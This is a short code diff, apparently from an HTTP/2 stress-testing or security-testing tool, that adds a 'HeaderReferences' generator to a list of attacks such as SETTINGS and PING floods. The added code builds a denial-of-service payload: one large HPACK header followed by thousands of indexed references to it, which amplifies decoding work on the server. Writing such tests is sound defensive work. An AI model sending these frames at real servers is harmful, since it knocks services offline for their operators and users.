@@ -129,6 +129,15 @@ Http2Attack LargeHeaderLists() {
                  [block](uint32_t stream) { return Headers(stream, block) + ResetOf(stream); });
 }
 
+Http2Attack HeaderReferences() {
+  const std::string block = DecodeHeaders();
+  const std::string field = '\x40' + Text("x") + Text(std::string(4000, 'y'));
+  const std::string references(4'000, '\xBE');
+  return Streams("references to headers", [block, field, references](uint32_t stream) {
+    return Frame(kHeaders, kEndHeaders, stream, block + (stream == 1 ? field : references));
+  });
+}
+
 Http2Attack SettingsFlood() { return Flood("SETTINGS", "", Frame(kSettings, 0, 0, "")); }
 
 Http2Attack PingFlood() { return Flood("PING", "", Frame(kPing, 0, 0, std::string(8, 'x'))); }
